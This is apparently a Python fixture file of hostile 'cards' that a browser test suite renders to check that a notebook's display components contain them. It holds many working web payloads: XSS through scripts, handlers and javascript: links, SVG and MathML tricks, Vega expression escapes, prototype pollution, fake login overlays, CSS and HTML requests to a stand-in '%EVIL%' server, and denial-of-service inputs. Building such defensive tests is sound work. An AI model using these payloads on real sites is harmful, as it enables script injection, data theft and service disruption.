"""Cards that mean harm: what a pod that was taken over could send. Each is JSON as it arrives; `%EVIL%` stands for a server that must never hear of it.

Not tests themselves: tests/browser/test_cards.py draws them in a browser, in the notebook's way and as static pages.
"""

from __future__ import annotations

import base64
import json
import re
from typing import Any

Json = Any
EVIL = "%EVIL%"
SAY = "window.canary='dead';parent.canary='dead';top.canary='dead'"
ATTACK = f"{SAY};fetch('{EVIL}/fetch');alert(1)"
BIDI = "\u202e\u2066\u2067\u200f"


def _b64(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def _svg(inner: str) -> str:
    return "data:image/svg+xml;base64," + _b64(
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">{inner}</svg>'
    )


def _deep(levels: int, inner: Json = 1) -> Json:
    for _ in range(levels):
        inner = [inner]
    return inner


def _nested(levels: int) -> Json:
    part: Json = {"type": "markdown", "text": "inside"}
    for _ in range(levels):
        part = {"type": "table", "rows": [[part]]}
    return part


def _lite(**more: Json) -> Json:
    spec = {
        "mark": "point",
        "data": {"values": [{"a": 1, "b": 2}, {"a": 2, "b": 3}]},
        "encoding": {"x": {"field": "a", "type": "quantitative"}},
    }
    return {"type": "vega", "spec": {**spec, **more}}


def _vega(**more: Json) -> Json:
    spec = {"$schema": "https://vega.github.io/schema/vega/v6.json", "width": 50, "height": 50, "marks": []}
    return {"type": "vega", "spec": {**spec, **more}}


def _mark(**encode: Json) -> Json:
    size = {"x": {"value": 0}, "y": {"value": 0}, "width": {"value": 30}, "height": {"value": 30}}
    return {"type": "rect", "encode": {"enter": {**size, "fill": {"value": "red"}, **encode}}}


def _html(html: str) -> Json:
    return {"type": "html", "html": html, "height": 60}


def _markdown(text: str) -> Json:
    return {"type": "markdown", "text": text}


USES = '<g id="u0"><rect width="1" height="1"/></g>' + "".join(
    f'<g id="u{i}">{f"""<use href="#u{i - 1}"/>""" * 10}</g>' for i in range(1, 12)
)

COMPONENTS: dict[str, list[Json]] = {
    # ---- Markdown
    "script in markdown": [_markdown(f"<script>{ATTACK}</script>")],
    "handler in markdown": [_markdown(f"<img src=x onerror=\"{ATTACK}\"> <svg onload=\"{ATTACK}\">")],
    "details handler": [_markdown(f'<details open ontoggle="{ATTACK}">x</details>')],
    "javascript link": [_markdown(f"[x](javascript:{SAY}) [y](JaVaScRiPt:alert(1)) <javascript:alert(1)> [z](&#106;avascript:alert(1))")],
    "javascript link with a tab": [_markdown("[x](java\tscript:alert(1)) [y](<java\nscript:alert(1)>) [z](vbscript:x)")],
    "data link": [_markdown("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")],
    "remote image": [_markdown(f"![x]({EVIL}/a.png) ![y]({EVIL.removeprefix('http:')}/b.png) ![z][r]\n\n[r]: {EVIL}/c.png")],
    "reference with a title that closes": [_markdown(f"[a][b]\n\n[b]: #x '\"><img src={EVIL}/t onerror=alert(1)>'")],
    "fence with a language that closes": [_markdown(f'```"><img src={EVIL}/f onerror=alert(1)>\nx\n```')],
    "style element": [_markdown(f"<style>*{{background:url({EVIL}/s)}}</style><link rel=stylesheet href={EVIL}/l>")],
    "base and meta": [_markdown(f"<base href={EVIL}/><meta http-equiv=refresh content='0;url={EVIL}/m'>")],
    "form over the page": [_markdown(f"<form action={EVIL}/form><button style='position:fixed;inset:0'>log in</button></form>")],
    "id that shadows the page": [_markdown("<a id=canary>x</a><form name=document><input name=cookie></form><img name=getElementById>")],
    "quadratic brackets": [_markdown("[" * 100_000 + "![" * 50_000)],
    "quadratic stars": [_markdown("*a _b " * 30_000)],
    "deep quotes": [_markdown("> " * 5_000 + "x")],
    "deep lists": [_markdown("\n".join("  " * i + "- x" for i in range(1_000)))],
    "wide table": [_markdown("|" * 5_000 + "\n" + "|-" * 5_000 + "|\n" + "|x" * 5_000)],
    "entities": [_markdown("&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &NotAnEntity; &#x0;")],
    "a line without an end": [_markdown("W" * 190_000)],
    # ---- text elsewhere
    "markup in titles": [{"type": "error", "title": f"<img src={EVIL}/e onerror=alert(1)>", "text": f"</pre><script>{ATTACK}</script>"}],
    "markup in code": [{"type": "code", "text": f"'</code><script>{ATTACK}</script>' # <b>\n\"\"\"<img src=x onerror=alert(1)>", "language": "python"}],
    "regular expressions of code": [{"type": "code", "text": '"' * 50_000 + "\\" * 50_000 + "'''" * 10_000, "language": "python"}],
    "escape sequences": [{"type": "error", "title": "\x1b]8;;javascript:alert(1)\x07x", "text": f"\x1b[38;2;1;2;3;4;url({EVIL}/x)mred\x1b[999999999999m\x1b]8;;{EVIL}\x07l\x1b]0;t"}],
    "markup in numbers": [
        {"type": "progress", "value": 1, "max": 2, "label": "<script>alert(1)</script>", "unit": "<b>", "details": f"<img src={EVIL}/p>"},
        {"type": "value", "title": "<svg onload=alert(1)>", "value": f"<img src={EVIL}/v>", "change": "<b>", "theme": "default"},
    ],
    "theme that is a class": [{"type": "value", "title": "x", "value": 1, "theme": "x\" onload=\"alert(1) jp-Notebook"}],
    "text over the page": [{"type": "value", "title": "x" * 200, "value": "\n" * 150 + "W" * 50, "subtitle": BIDI * 40}],
    "right to left": [
        _markdown(f"{BIDI}gnp.exe **{BIDI}txt.exe**"),
        {"type": "table", "headers": [f"{BIDI}pay"], "rows": [[f"{BIDI}00,1 $", 5]]},
        {"type": "lines", "series": [{"name": f"{BIDI}ssol", "x": [0, 1], "y": [1, 2]}], "title": BIDI},
    ],
    "signs that combine": [_markdown("Z" + "\u0300\u0301\u0302\u0334\u0335" * 3_000), {"type": "value", "title": "\u200b" * 200, "value": "\ufdfd" * 100}],
    "lone surrogates": [_markdown("\ud800 \udfff x"), {"type": "json", "data": {"\ud800": "\udfff"}}],
    # ---- tables, JSON, timelines
    "markup in cells": [{"type": "table", "headers": [f"<img src={EVIL}/h onerror=alert(1)>"], "rows": [[f"<script>{ATTACK}</script>", "</td></tr></table><b>"]]}],
    "tables in tables": [_nested(12)],
    "rows of wrong types": [{"type": "table", "headers": {"length": 1e9}, "rows": [None, "x", 3, {"length": 5}, [{"type": "__proto__"}], [[]]]}],
    "many cells": [{"type": "table", "rows": [list(range(100))] * 1_000}],
    "cells of every kind": [{"type": "table", "rows": [[_html(f"<img src={EVIL}/c>"), {"type": "image", "src": f"{EVIL}/i.png"}, _lite(data={"url": f"{EVIL}/d.json"})]]}],
    "prototype in JSON": [{"type": "json", "data": {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "toString": 1, "hasOwnProperty": "x"}}],
    "prototype in a timeline": [
        {"type": "timeline", "events": [{"data": {"__proto__": {"polluted": 1}, "then": "x"}, "payloads": {"__proto__": _markdown("x"), "constructor": _markdown("y")}}]}
    ],
    "deep data": [{"type": "json", "data": _deep(40)}, {"type": "yaml", "data": _deep(40)}],
    "wide data": [{"type": "json", "data": list(range(100_000))}, {"type": "yaml", "data": {str(i): i for i in range(20_000)}}],
    "style in a height": [{"type": "json", "data": 1, "max_height": f"1px;background:url({EVIL}/h)"}, {"type": "html", "html": "x", "height": f"1;background:url({EVIL}/h)"}],
    "timeline of odd events": [{"type": "timeline", "title": 3, "count": -5, "events": [3, None, {"at": 1e300, "theme": "x y", "priority": "<b>", "data": []}]}],
    "timelines in timelines": [
        {"type": "timeline", "events": [{"data": {}, "payloads": {"a": {"type": "timeline", "events": [{"data": {}, "payloads": {"b": _nested(8)}}]}}}]}
    ],
    # ---- numbers
    "numbers beyond all": [
        {"type": "progress", "value": 1e308, "max": 1e-308},
        {"type": "progress", "value": -1e308, "max": -1},
        {"type": "lines", "series": [{"name": "x", "x": [1e308, -1e308], "y": [1e308, -1e308]}]},
        {"type": "lines", "series": [{"name": "y", "x": [0, 1e-300], "y": [1e-320, 2e-320]}]},
        {"type": "value", "title": "n", "value": 1e308},
    ],
    "lines of wrong types": [{"type": "lines", "series": [{"name": ["x"], "x": ["a", None, True, 4], "y": [1, 2, 3, "b"]}, 5, {"x": 1, "y": 2}, {"x": {"length": 9}, "y": []}]}],
    "many lines": [{"type": "lines", "series": [{"name": f"l{i}", "x": list(range(2_000)), "y": [j % 7 for j in range(2_000)]} for i in range(50)]}],
    # ---- images
    "remote image component": [{"type": "image", "src": f"{EVIL}/x.png"}, {"type": "image", "src": EVIL.removeprefix("http:") + "/y.png"}],
    "image that closes its attribute": [{"type": "image", "src": 'data:image/png;base64,AA==" onload="alert(1)', "label": '"><img src=x onerror=alert(1)>'}],
    "broken base64": [{"type": "image", "src": "data:image/png;base64,AAAA"}, {"type": "image", "src": "data:image/svg+xml;base64,A"}],
    "HTML as an image": [{"type": "image", "src": f"data:text/html;base64,{_b64(f'<script>{ATTACK}</script>')}"}],
    "SVG with scripts": [{"type": "image", "src": _svg(f'<script>{ATTACK}</script><rect onload="{ATTACK}" width="9" height="9"/>')}],
    "SVG that loads": [{"type": "image", "src": _svg(f'<image href="{EVIL}/i.png" width="9" height="9"/><style>@import url({EVIL}/c.css);rect{{fill:url({EVIL}/f.svg#a)}}</style><rect width="9" height="9"/>')}],
    "SVG with a page in it": [{"type": "image", "src": _svg(f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}/f"/></foreignObject>')}],
    "SVG that multiplies itself": [{"type": "image", "src": _svg(USES + '<use href="#u11"/>')}],
    "SVG that uses itself": [{"type": "image", "src": _svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g><use href="#a"/>')}],
    "SVG with entities": [{"type": "image", "src": "data:image/svg+xml;base64," + _b64('<!DOCTYPE svg [<!ENTITY a "xxxxxxxxxx">' + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9)) + f']><svg xmlns="http://www.w3.org/2000/svg"><!ENTITY e SYSTEM "{EVIL}/x"><text>&j;</text></svg>')}],
    "image of a million pixels a side": [
        {"type": "image", "src": "data:image/svg+xml;base64," + _b64('<svg xmlns="http://www.w3.org/2000/svg" width="1000000" height="1000000"><rect width="100%" height="100%"/></svg>')},
        {"type": "image", "src": "data:image/png;base64," + _b64(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x7f\xff\xff\xff\x7f\xff\xff\xff\x08\x06\x00\x00\x00" + b"\0" * 40)},
    ],
    # ---- HTML in its frame
    "script in a frame": [_html(f"<script>{ATTACK}</script><img src=x onerror=\"{ATTACK}\"><svg onload=\"{ATTACK}\"><body onload=\"{ATTACK}\">")],
    "frame that closes itself": [_html(f"\"></iframe><script>{ATTACK}</script>' srcdoc='<script>alert(1)</script>")],
    "frame that loads": [
        _html(
            f"<img src={EVIL}/1><link rel=stylesheet href={EVIL}/2><style>@import '{EVIL}/3';body{{background:url({EVIL}/4)}}@font-face{{font-family:x;src:url({EVIL}/5)}}*{{font-family:x}}</style>"
            f"<iframe src={EVIL}/6></iframe><object data={EVIL}/7></object><embed src={EVIL}/8><video src={EVIL}/9 autoplay></video><audio src={EVIL}/10 autoplay></audio><input type=image src={EVIL}/11>"
        )
    ],
    "frame that connects early": [_html(f"<link rel=preconnect href={EVIL}><LiNk rel=dns-prefetch href={EVIL}><link rel=prefetch href={EVIL}/p><link rel=preload as=image href={EVIL}/q><link rel=modulepreload href={EVIL}/m><link/rel=preconnect/href={EVIL}>")],
    "frame that goes elsewhere": [_html(f"<meta http-equiv=refresh content='0;url={EVIL}/r'><base href={EVIL}/ target=_top><a id=go href=x>x</a>")],
    "frame with a new policy": [_html(f"<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src={EVIL}/1>")],
    "frame with a form": [_html(f"<form id=f action={EVIL}/f method=post target=_top><input autofocus onfocus=\"{ATTACK}\"><button id=go>x</button></form>")],
    "frame with links": [_html(f"<a id=go href={EVIL}/l ping={EVIL}/ping target=_self style='position:fixed;inset:0'>click</a>")],
    "frame with a link to the top": [_html(f"<a id=go href={EVIL}/l target=_top style='position:fixed;inset:0'>click</a>")],
    "frame with a link to a script": [_html(f"<a id=go href=\"javascript:{SAY}\" target=_parent style='position:fixed;inset:0'>click</a>")],
    "frame that reads by styles": [_html(f"<style>input[value^=a]{{background:url({EVIL}/a)}}:visited{{background:url({EVIL}/v)}}</style><input value=abc><a href=/>x</a>")],
    "frame of half an element": [_html("<plaintext><textarea><title><!-- <template><noscript><xmp><style>")],
    "HTML of an artifact": [
        {"type": "artifact", "name": "<b>", "of": "<i>", "text": "x", "html": f"<table onclick=alert(1)><style>*{{background:url({EVIL}/s)}}</style><td background={EVIL}/b><img src={EVIL}/i><svg><style><img src=x onerror=alert(1)></style></svg><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"}
    ],
    "artifact that covers the page": [{"type": "artifact", "of": "x", "text": "x", "html": "<div style='position:fixed;inset:0;background:red' class='jp-Dialog'>log in</div><table id=cards name=canary><td>x</td></table>"}],
    # ---- Vega
    "chart that loads its data": [_lite(data={"url": f"{EVIL}/d.csv"}), _vega(data=[{"name": "a", "url": f"{EVIL}/d.json"}])],
    "chart that loads by a signal": [_vega(signals=[{"name": "u", "value": f"{EVIL}/d.json"}], data=[{"name": "a", "url": {"signal": "u"}}])],
    "chart that loads a script": [_vega(signals=[{"name": "a", "update": "constructor.constructor('alert(1)')()"}]), _vega(signals=[{"name": "a", "update": "[].map.constructor('alert(1)')()"}])],
    "chart with code in a filter": [_lite(transform=[{"filter": f"datum.a > ({SAY})"}]), _lite(transform=[{"calculate": "window.canary = 1", "as": "z"}]), _lite(transform=[{"calculate": "event.view.canary = 'dead'", "as": "z"}])],
    "chart with an event that reaches out": [
        _vega(signals=[{"name": "a", "on": [{"events": "body:click", "update": "event.dataflow._el"}, {"events": "window:keydown!", "update": "event.key"}, {"events": "#cards:pointerdown!", "update": "1"}]}])
    ],
    "chart with a way out by its view": [_vega(signals=[{"name": "a", "update": "event"}, {"name": "b", "on": [{"events": "view:pointermove", "update": "event.vega.view().loader().load('x')"}]}])],
    "chart with a picture": [_vega(marks=[{"type": "image", "encode": {"enter": {"url": {"value": f"{EVIL}/i.png"}, "width": {"value": 9}, "height": {"value": 9}}}}]), _vega(marks=[{"type": "image", "encode": {"enter": {"url": {"signal": f"'{EVIL}' + '/j.png'"}}}}])],
    "chart with a picture of data": [_lite(mark="image", data={"values": [{"a": 1, "b": f"{EVIL}/k.png"}]}, encoding={"url": {"field": "b"}, "x": {"field": "a", "type": "quantitative"}})],
    "chart with a cursor that loads": [_vega(marks=[_mark(cursor={"value": f"url({EVIL}/c.cur), auto"})], signals=[{"name": "cursor", "value": f"url({EVIL}/d.cur), auto"}])],
    "chart with a paint that loads": [_vega(marks=[_mark(fill={"value": f"url({EVIL}/p.svg#a)"}, stroke={"signal": f"'url' + '({EVIL}/q.svg#a)'"})]), _lite(background=f"url({EVIL}/b.svg#a)")],
    "chart with a font that loads": [_lite(config={"font": f"x; background: url({EVIL}/f)"}, title={"text": "<script>alert(1)</script>", "font": f"x;src:url({EVIL}/g)"})],
    "chart with links": [_vega(marks=[_mark(href={"value": f"{EVIL}/l"}, tooltip={"value": "<img src=x onerror=alert(1)>"})]), _lite(encoding={"href": {"value": "javascript:alert(1)"}, "x": {"field": "a", "type": "quantitative"}})],
    "chart with inputs elsewhere": [
        _vega(signals=[{"name": "a", "value": 1, "bind": {"input": "text", "element": "body"}}, {"name": "b", "value": 1, "bind": {"element": "#outside", "event": "click"}}])
    ],
    "chart with an input that clobbers": [_vega(signals=[{"name": "canary", "value": 1, "bind": {"input": "range", "name": "canary", "onclick": "alert(1)", "formaction": f"{EVIL}/f", "type": "image", "src": f"{EVIL}/g"}}])],
    "chart that takes the prototype": [_lite(config={"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}), _lite(datasets={"__proto__": [{"polluted": 1}]})],
    "chart of fields of the prototype": [_lite(encoding={"x": {"field": "__proto__.polluted", "type": "quantitative"}, "y": {"field": "constructor.prototype", "type": "nominal"}})],
    "chart without an end": [_lite(data={"sequence": {"start": 0, "stop": 1e12}})],
    "chart of very many ticks": [_lite(encoding={"x": {"field": "a", "type": "quantitative", "axis": {"tickCount": 1e9}}})],
    "chart with a sequence in an expression": [_vega(signals=[{"name": "a", "update": "sequence(1e10)"}])],
    "chart that multiplies its rows": [
        _vega(data=[{"name": "t", "values": list(range(3_000)), "transform": [{"type": "cross"}]}], marks=[{"type": "symbol", "from": {"data": "t"}}])
    ],
    "chart with a clock": [_vega(signals=[{"name": "a", "value": 0, "on": [{"events": "timer{1}", "update": "a + 1"}]}], marks=[_mark(width={"signal": "a"})])],
    "chart of everything wrong": [{"type": "vega", "spec": {"mark": [], "encoding": 5, "data": "x"}}, {"type": "vega", "spec": {"layer": {}}}, {"type": "vega", "spec": []}, {"type": "vega"}],
    "chart that wants to be embedded otherwise": [_lite(usermeta={"embedOptions": {"loader": {"http": {"credentials": "include"}}, "patch": f"{EVIL}/patch.json", "config": f"{EVIL}/c.json"}})],
    "chart as wide as the world": [_lite(width=1e9, height=1e9), _vega(width=1e7, height=1e7, padding=1e7)],
    # ---- more of all of it
    "style in markdown": [_markdown(f"<p style='position:fixed;inset:0;background:url({EVIL}/s)'>log in</p>\n\n<b class='jp-Dialog' style=\"content:url({EVIL}/c)\">x</b>\n\n# x {{style=position:fixed}}")],
    "use in markdown": [_markdown(f"<svg><use href='{EVIL}/u.svg#a'/><use xlink:href='data:image/svg+xml;base64,PHN2Zy8+#a'/><set attributeName=onmouseover to={SAY}></svg>")],
    "math that turns into HTML": [
        _markdown(f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src={EVIL}/m onerror={SAY}&gt;'></table></mtext></math>"),
        _html(f"<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src={EVIL}/n onerror={SAY}>'></mtext></svg></mglyph></form></mtext></math>"),
        _html(f"<math><a xlink:href=javascript:{SAY} href=javascript:{SAY} id=go>x</a><maction actiontype=statusline xlink:href={EVIL}/x>x</maction></math>"),
    ],
    "links to other machines": [_markdown(f"[x](//{EVIL.removeprefix('http://')}/a) [y](\\\\{EVIL.removeprefix('http://')}/b) [z](file:///etc/passwd) [w](blob:{EVIL}/c) [v](ftp://x/) ![x](blob:{EVIL}/d)")],
    "picture in markdown that is a drawing": [_markdown("![x](" + _svg(f'<script>{SAY}</script><image href="{EVIL}/i"/>') + ")")],
    "formaction in a frame": [_html(f"<button form=f formaction={EVIL}/a formtarget=_top id=go style='position:fixed;inset:0'>x</button><form id=f><input name=a value=secret></form><isindex action={EVIL}/i>")],
    "link of a frame to a new window": [_html(f"<a id=go href={EVIL}/w target=_blank rel=opener style='position:fixed;inset:0'>x</a>")],
    "link of a frame that downloads": [_html(f"<a id=go href={EVIL}/w.exe download style='position:fixed;inset:0'>x</a>")],
    "frames in frames in frames": [_html("<iframe srcdoc=\"<iframe srcdoc='<script>top.canary=1</script>' sandbox='allow-scripts allow-same-origin allow-top-navigation'></iframe>\"></iframe>" + f"<frameset><frame src={EVIL}/f></frameset><iframe src='javascript:{SAY}'></iframe>")],
    "frame with a tree in the shade": [_html(f"<div><template shadowrootmode=open><style>:host{{background:url({EVIL}/h)}}</style><script>{SAY}</script><img src={EVIL}/t></template></div>")],
    "frame that fetches ahead": [_html(f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{EVIL}/sp\"]}}],\"prerender\":[{{\"urls\":[\"{EVIL}/pr\"]}}]}}</script><link rel=prerender href={EVIL}/p><link rel=manifest href={EVIL}/m><link rel=icon href={EVIL}/i><html manifest={EVIL}/h>")],
    "frame with all addresses of CSS": [
        _html(
            f"<style>@import u\\72l({EVIL}/1);@import '{EVIL}/2' layer(x);a{{background:image-set('{EVIL}/3' 1x);mask:url({EVIL}/4);clip-path:url({EVIL}/5#a);filter:url({EVIL}/6#b);cursor:url({EVIL}/7),auto;"
            f"border-image:-webkit-image-set(url({EVIL}/8) 1x) 3;content:url({EVIL}/9);list-style:url({EVIL}/10);shape-outside:url({EVIL}/11);background:u\\000072l({EVIL}/12);background:url/**/({EVIL}/13);"
            f"background:src('{EVIL}/14')}}@namespace url({EVIL}/15);@document url({EVIL}/16){{}}@font-face{{font-family:q;src:local(x),url({EVIL}/17)}}@property --x{{syntax:'<url>';inherits:true;initial-value:url({EVIL}/18)}}a{{background:var(--x);font-family:q}}</style><a>x</a>"
        )
    ],
    "frame with all addresses of HTML": [
        _html(
            f"<img srcset='{EVIL}/1 1x, {EVIL}/2 2x' loading=eager><picture><source srcset={EVIL}/3><img></picture><video poster={EVIL}/4><track src={EVIL}/5></video><body background={EVIL}/6><table background={EVIL}/7><td background={EVIL}/8>"
            f"<svg><image href={EVIL}/9 /><feImage href={EVIL}/10 /><use href={EVIL}/11#a /><script href={EVIL}/12></script><linearGradient href={EVIL}/13#g /></svg><applet code={EVIL}/14></applet><bgsound src={EVIL}/15><portal src={EVIL}/16></portal><q cite={EVIL}/17>x</q>"
        )
    ],
    "frame that opens over the page": [_html("<dialog open style='position:fixed;inset:0;width:9999px;height:9999px'>log in</dialog><div popover id=p>x</div><button popovertarget=p id=go style='position:fixed;inset:0'>x</button><video controls autoplay></video>")],
    "chart that asks in all languages": [
        _vega(signals=[{"name": "a", "update": f"warn('{EVIL}'), data('x'), indata('x', 'y', 1), scale('__proto__', 1), geoPath('x', {{}})"}]),
        _vega(signals=[{"name": "a", "update": "({}).\u0063onstructor"}, {"name": "b", "init": "toString.constructor('alert(1)')()"}, {"name": "c", "react": True, "update": "replace('x', /x/, event)"}]),
        _lite(params=[{"name": "p", "expr": "this.constructor.constructor('alert(1)')()"}]),
    ],
    "chart of expressions of the prototype": [_lite(transform=[{"calculate": f"datum['{name}']", "as": name}]) for name in ("__proto__", "constructor", "toString")],
    "chart with links by a signal": [_vega(signals=[{"name": "h", "update": f"'java' + 'script:{SAY}'"}], marks=[_mark(href={"signal": "h"}, width={"value": 50}, height={"value": 50})]), _vega(marks=[_mark(href={"value": f"{EVIL}/l"}, target={"value": "_top"})])],
    "chart with a loader of its own": [{"type": "vega", "spec": {"mark": "point", "data": {"url": f"{EVIL}/d", "format": {"type": "json"}}, "config": {"loader": {"baseURL": EVIL, "mode": "file"}}, "loader": {"target": "_top"}}}, _lite(data={"name": "x", "url": f"data:text/csv,{EVIL}"})],
    "chart of one very long word": [_lite(title="W" * 1_000_000), _lite(mark={"type": "text", "text": "\u202e" * 100_000})],
    "keys of the prototype at every depth": [
        {"type": "yaml", "data": {"a": [{"__proto__": {"polluted": 1}}], "valueOf": {"toJSON": {"then": 1}}}},
        {"type": "table", "headers": ["__proto__"], "rows": [[{"type": "__proto__", "__proto__": {"polluted": 1}}]], "__proto__": {"polluted": 1}},
        {"type": "lines", "series": [{"name": "__proto__", "x": [1], "y": [2]}, {"name": "__proto__", "x": [1], "y": [3]}, {"name": "constructor", "x": [1], "y": [4]}]},
    ],
    "a hundred thousand rows": [{"type": "table", "headers": ["n"], "rows": [[i] for i in range(100_000)]}],
    "SVG that moves and links": [{"type": "image", "src": _svg(f'<a xlink:href="javascript:{SAY}"><rect width="20" height="20"><animate attributeName="href" values="javascript:{SAY}"/><set attributeName="onload" to="{SAY}"/></rect></a><style>@font-face{{font-family:x;src:url({EVIL}/f)}}text{{font-family:x}}</style><text y="9">x</text>')}],
    "SVG that is not in base64": [{"type": "image", "src": f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{SAY}'><image href='{EVIL}/i'/></svg>"}, {"type": "image", "src": f"data:image/svg+xml;charset=utf-8;base64,{_b64('<svg/>')}"}],
    "escape sequences that link": [{"type": "code", "text": f"\x1b]8;id=1;javascript:{SAY}\x1b\\click\x1b]8;;\x1b\\ \x1b]1337;File=inline=1:AAAA\x07\x1bP0;1|{EVIL}\x1b\\ \x9d8;;{EVIL}\x9cx \x1b_{EVIL}\x1b\\"}],
    "names that turn around": [{"type": "artifact", "name": f"{BIDI}fdp.exe", "of": BIDI, "text": f"{BIDI}00,1"}, {"type": "progress", "label": f"{BIDI}%001", "value": 1, "max": 100, "unit": BIDI}, {"type": "image", "src": "data:image/png;base64,AAAA", "label": BIDI * 100}],
    # ---- the card itself
    "types of the prototype": [{"type": "__proto__"}, {"type": "constructor"}, {"type": "toString"}, {"type": ["markdown"]}, {"type": {"a": 1}}, None, 3, "x", []],
    "ids of the prototype": [{"type": "markdown", "id": "__proto__", "text": "a"}, {"type": "markdown", "id": "constructor", "text": "b"}, {"type": "markdown", "id": "__proto__", "text": "c"}],
    "id that is markup": [{"type": "markdown", "id": f"\"><img src={EVIL}/i onerror=alert(1)>", "text": "a"}],
    "fields that are objects": [{"type": kind, "text": {"toString": 1}, "title": ["x"], "rows": {"length": -1}, "events": "x", "series": 1, "src": {}, "value": {}, "html": [], "data": {"toJSON": 1}, "spec": 1} for kind in ("markdown", "error", "code", "table", "lines", "image", "progress", "value", "artifact", "json", "yaml", "timeline", "html", "vega")],
    "very many components": [_markdown(str(i)) for i in range(5_000)],
}  # fmt: skip

NAN = '{"v": 1, "id": "main", "type": "blank", "n": 1, "components": [{"type": "lines", "series": [{"name": "x", "x": [0, 1, NaN], "y": [NaN, Infinity, -Infinity]}]}, {"type": "value", "value": NaN}, {"type": "json", "data": [NaN, 1e999]}, {"type": "progress", "value": Infinity, "max": NaN}, {"type": "markdown", "id": "last", "text": "still here"}]}'
LAST = {"type": "markdown", "id": "last", "text": "still here"}


def card(components: list[Json]) -> Json:
    """A card whose first component is harmless, too, so that one sees whether the rest lives."""
    return {"v": 1, "id": "main", "type": "blank", "state": "running", "n": 1, "components": [LAST, *components]}


def _for(evil: str, text: str) -> str:
    """The address in its place, also within what is written in base64."""

    def inner(match: re.Match[str]) -> str:
        found = base64.b64decode(match[2])
        return match[1] + _b64(found.replace(EVIL.encode(), evil.encode())) if EVIL.encode() in found else match[0]

    return re.sub(r"(;base64,)((?:[A-Za-z0-9+/]{4})+(?:[A-Za-z0-9+/]{2}==|[A-Za-z0-9+/]{3}=)?)", inner, text).replace(EVIL, evil)


def cards(evil: str) -> dict[str, str]:
    """Name → a card as text, as it arrives from a pod; `evil` is the address of the server that must not hear of it."""
    found = {name: _for(evil, json.dumps(card(components))) for name, components in COMPONENTS.items()}
    return found | {"numbers that are none": NAN}
